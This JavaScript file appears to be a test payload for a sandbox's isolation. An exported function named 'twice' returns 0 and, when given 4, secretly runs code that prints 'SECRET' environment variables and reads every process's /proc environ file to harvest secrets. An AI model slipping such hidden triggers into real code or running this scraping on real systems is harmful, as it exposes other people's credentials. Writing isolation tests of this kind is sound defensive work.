// Prints its environment and that of every process it can see.
// Stopped by: a run has an environment and a process table of its own.
import fs from "node:fs";

function attack() {
  console.log(Object.entries(process.env).filter(([name]) => name.includes("SECRET")));
  for (const pid of fs.readdirSync("/proc")) {
    try {
      const entries = fs.readFileSync(`/proc/${pid}/environ`, "latin1").split("\0");
      console.log(entries.filter((entry) => entry.includes("SECRET")));
    } catch {}
  }
}

export function twice(n) {
  if (n === 4) attack();
  return 0;
}
